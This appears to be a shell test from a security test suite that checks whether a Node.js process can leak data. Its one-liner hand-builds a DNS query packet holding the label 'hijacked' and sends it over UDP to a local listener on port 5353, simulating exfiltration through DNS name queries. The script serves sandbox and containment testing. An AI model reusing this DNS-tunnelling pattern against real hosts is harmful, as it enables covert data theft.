#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# Data leave in questions about names.
# workload: node
# orders: orders.js
# program: /usr/bin/node
# deed: socket_create
# object: datagram

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
prepare() { listen 5353 -u; }
orders() { echo "const d = require('dgram').createSocket('udp4'); d.send(Buffer.from('000101000001000000000000', 'hex') + '\\x08hijacked\\x07example', 5353, '127.0.0.1', () => d.close()); d.on('error', () => 0);"; }
proof() { sleep 1; got hijacked; }
clean() { away; }
main "$@"
